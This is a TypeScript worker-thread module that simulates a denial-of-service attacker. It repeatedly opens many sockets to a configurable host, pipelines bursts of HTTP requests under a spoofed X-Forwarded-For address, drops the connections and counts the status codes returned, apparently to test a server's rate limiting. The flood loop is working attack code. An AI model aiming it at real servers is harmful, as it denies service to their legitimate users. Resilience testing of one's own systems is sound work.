/**
 * What somebody does who wants nobody else to be served, in a thread of its own: connections that each send many requests at
 * once, read what comes for a moment, go away and begin again.
 */
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { parentPort, workerData } from 'node:worker_threads'

/** What the thread is told to do. */
export type Attack = {
  readonly host: string
  readonly port: number
  /** As the request line names it. */
  readonly path: string
  readonly sockets: number
  /** Sent at once over each. */
  readonly requests: number
  /** How long an answer is waited for before the connections are cut [ms]. */
  readonly patience: number
}

/** What came back, by status. */
export type Answered = { readonly bursts: number; readonly answers: Readonly<Record<string, number>> }

const { host, port, path, sockets, requests, patience } = workerData as Attack
const answers: Record<string, number> = {}
let bursts = 0
const over = new AbortController()
parentPort!.once('message', () => over.abort())

// All from one line, as one machine has it.
const text = `GET ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\nX-Forwarded-For: 203.0.113.66\r\n\r\n`.repeat(requests)

async function burst(): Promise<void> {
  bursts += 1
  const open = Array.from({ length: sockets }, () => {
    const socket = connect(port, host, () => socket.write(text))
    socket.on('data', (piece: Buffer) => {
      for (const [, status] of piece.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3})/g))
        answers[status!] = (answers[status!] ?? 0) + 1
    })
    socket.on('error', () => {}) // refused or cut: what was wanted
    return socket
  })
  await sleep(patience)
  for (const socket of open) socket.destroy()
}

while (!over.signal.aborted) await burst()
// oxlint-disable-next-line unicorn/require-post-message-target-origin -- a thread's port has no origin
parentPort!.postMessage({ bursts, answers } satisfies Answered)
